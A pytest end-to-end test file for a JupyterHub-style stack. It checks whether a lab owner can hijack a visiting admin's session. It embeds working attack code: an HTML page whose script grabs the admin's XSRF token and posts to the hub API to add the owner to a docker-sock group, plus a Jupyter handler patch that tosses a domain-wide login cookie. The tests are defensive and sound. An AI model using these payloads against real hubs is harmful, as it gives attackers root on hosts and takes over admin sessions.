"""A lab's own JavaScript tries to make its owner root on the host while an admin looks at the lab.

The owner, mallory, controls what their lab serves: here through a page template in their persistent
home (a JupyterLab extension there would do the same). The page's script tries to add mallory to the
`docker-sock` group with the session of whoever views it: first on its own origin, then on the hub's.

Both stacks let admins open users' labs (LAB_ADMIN_ACCESS=1), so only the lab's origin stands between
the script and the hub. With subdomains (the default) the group stays empty. With LAB_SUBDOMAINS=0 the
same script succeeds: the attack is real, and the admin page warns about it.
"""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import expect

from ..support.hubclient import HubSession
from ..support.livestack import ADMIN, PASSWORD, approved_user, claim_admin, start_stack, stop_stack
from .pages import LoginPage, navigate

pytestmark = pytest.mark.e2e

ATTACK_PAGE = r"""<!doctype html>
<html><head><title>loading</title></head><body><p>Nothing to see here.</p>
<script>
(async () => {
  const results = [];
  const lab = location.origin;
  const hub = lab.replace(/\/\/[^.\/]+\.(?=[^\/]*\.)/, "//");  // https://mallory.hub.localhost:p -> https://hub.localhost:p
  for (const base of [...new Set([lab, hub])]) {
    try {
      const home = await fetch(base + "/hub/home", {credentials: "include"});
      const xsrf = ((await home.text()).match(/xsrf_token:\s*"([^"]+)"/) || [])[1] || "";
      const added = await fetch(base + "/hub/api/groups/docker-sock/users", {
        method: "POST", credentials: "include",
        headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"},
        body: JSON.stringify({users: ["mallory"]}),
      });
      results.push(base + " " + added.status);
    } catch (error) {
      results.push(base + " " + error);
    }
  }
  document.title = "attack done: " + results.join("; ");
})();
</script></body></html>
"""

PLANT = f"""
import os, pathlib
evil = pathlib.Path("/home/lab/.evil")
evil.mkdir(exist_ok=True)
(evil / "404.html").write_text({ATTACK_PAGE!r})
config = pathlib.Path("/home/lab/.jupyter")
config.mkdir(exist_ok=True)
(config / "jupyter_server_config.py").write_text("c.ServerApp.extra_template_paths = ['/home/lab/.evil']\\n")
"""


def plant_attack(live) -> HubSession:
    """mallory signs up, is approved, and puts the page in her home; her lab restarts to load it."""
    admin = claim_admin(live)
    _, api = approved_user(live, admin, "mallory")
    api.start("mallory")
    planted = live.lab("mallory").exec_run(["python3", "-c", PLANT], user="lab")
    assert planted.exit_code == 0, planted.output.decode()
    api.stop("mallory")
    api.start("mallory")
    return admin


def members(admin: HubSession) -> list[str]:
    group = admin.api("GET", "groups/docker-sock")
    group.raise_for_status()
    return group.json()["users"]


def admin_views_the_lab(live, page) -> str:
    LoginPage(page, live.url).login(ADMIN, PASSWORD)
    navigate(page, live.url + "user/mallory/this-page-does-not-exist")
    if "/hub/api/oauth2/authorize" in page.url:  # JupyterHub asks the admin to confirm access to another's server
        page.get_by_role("button", name="Authorize").click()
    page.wait_for_function("document.title.startsWith('attack done')", timeout=30_000)
    return page.title()


@pytest.fixture(scope="module")
def own_origins(tmp_path_factory):
    stack = start_stack(tmp_path_factory.mktemp("origins"), {"LAB_ADMIN_ACCESS": "1"})
    yield stack
    stop_stack(stack)


@pytest.fixture(scope="module")
def shared_origin(tmp_path_factory):
    stack = start_stack(tmp_path_factory.mktemp("shared"), {"LAB_ADMIN_ACCESS": "1", "LAB_SUBDOMAINS": "0"})
    yield stack
    stop_stack(stack)


def test_a_lab_on_its_own_origin_cannot_act_with_the_admins_session(own_origins, page):
    admin = plant_attack(own_origins)
    outcome = admin_views_the_lab(own_origins, page)
    assert page.url.startswith("https://mallory.hub.localhost:"), page.url  # the lab is on its own origin
    assert members(admin) == [], f"the lab's script made its owner root on the host ({outcome})"


def test_with_a_shared_origin_the_same_script_succeeds_and_the_admin_page_warns(shared_origin, page):
    admin = plant_attack(shared_origin)
    outcome = admin_views_the_lab(shared_origin, page)
    assert members(admin) == ["mallory"], f"the attack did not work, so the test above proves nothing ({outcome})"
    navigate(page, shared_origin.url + "hub/admin")
    expect(page.locator("#hubforge-shared-origin")).to_contain_text("Labs share the hub's origin")


# mallory's lab adds one header to every response it sends, its redirects and 404s included: her own hub login cookie,
# for the hub's whole domain. Her server's config lives in her home, so she controls it.
TOSS_CONFIG = """
from jupyter_server.base.handlers import JupyterHandler
_defaults = JupyterHandler.set_default_headers
def _toss(self):
    _defaults(self)
    self.add_header("Set-Cookie", {cookie!r})
JupyterHandler.set_default_headers = _toss
"""
WRITE_CONFIG = (
    "import pathlib, sys; folder = pathlib.Path.home() / '.jupyter'; folder.mkdir(exist_ok=True); "
    "(folder / 'jupyter_server_config.py').write_text(sys.argv[1])"
)


def test_a_lab_cannot_sign_its_visitor_in_to_the_hub_as_its_owner(live, page):
    """Cookie tossing: a lab page sets its owner's hub login cookie for the parent domain. The admin who visits it
    stays the admin: the hub's login cookie is `__Host-` prefixed, which a browser refuses to take with a Domain."""
    admin = claim_admin(live)
    owner, api = approved_user(live, admin, "tosser")
    (login,) = [c for c in owner.http.cookies if c.name.endswith("jupyterhub-hub-login")]
    host = live.url.split("/")[2].split(":")[0]  # hub.localhost
    cookie = f"{login.name}={login.value}; Domain={host}; Path={login.path}; Secure; HttpOnly; SameSite=Lax"
    api.start("tosser")
    planted = live.lab("tosser").exec_run(
        ["python3", "-c", WRITE_CONFIG, TOSS_CONFIG.format(cookie=cookie)], user="lab"
    )
    assert planted.exit_code == 0, planted.output.decode()
    api.stop("tosser")
    api.start("tosser")

    LoginPage(page, live.url).login(ADMIN, PASSWORD)
    page.goto(api.url("user/tosser/anything"))  # the lab answers (a redirect to the hub, then a refusal): cookie set
    page.goto(live.url + "hub/api/user")
    who = json.loads(page.locator("body").inner_text())["name"]
    assert who == ADMIN, f"visiting tosser's lab signed the admin in to the hub as {who!r}"
